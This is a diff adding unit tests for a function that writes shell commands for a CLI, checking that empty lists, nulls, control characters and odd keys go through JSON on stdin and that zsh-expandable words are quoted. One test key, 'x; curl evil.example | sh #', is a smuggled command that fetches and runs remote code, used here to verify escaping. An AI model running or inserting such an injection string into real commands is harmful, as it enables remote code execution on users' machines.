@@ -171,6 +171,27 @@ describe('the code of a call', () => {
     )
   })
 
+  it('passes what a flag cannot have as JSON: empty lists, null, control characters and unknown names', () => {
+    const write = (id: string, input: object) =>
+      writeCommand({ entry: getEntry(id), input: { ...input }, baseUrl })
+    expect(write('membershipCards.update', { id: 7, benefits: [], level: null, name: undefined })).toBe(
+      `printf '%s' '{"benefits":[],"level":null}' | mintmark membership-cards update \\\n  --id 7 \\\n  --input -`,
+    )
+    expect(write('orders.get', { orderNo: 'A1', 'x; curl evil.example | sh #': 1 })).toBe(
+      `printf '%s' '{"x; curl evil.example | sh #":1}' | mintmark orders get \\\n  --order-no A1 \\\n  --input -`,
+    )
+    // A terminal that pastes them as keys would end the line by the first one, and delete a quote by the other.
+    expect(write('orders.get', { orderNo: 'A\u0003\u007f1' })).toBe(
+      `printf '%s' '{"orderNo":"A\\u0003\\u007f1"}' | mintmark orders get --input -`,
+    )
+    expect(write('orders.get', { orderNo: 'A\ud83d' })).toContain(`'{"orderNo":"A\\ud83d"}'`)
+  })
+
+  it('quotes a word that zsh would replace by the path of a program', () => {
+    const command = writeCommand({ entry: getEntry('orders.get'), input: { orderNo: '=ls' }, baseUrl })
+    expect(command).toBe(`mintmark orders get --order-no '=ls'`)
+  })
+
   it('is written although half of a character is entered', () => {
     const entry = getEntry('orders.get')
     const call = { entry, input: { orderNo: 'A\ud83d' }, baseUrl }
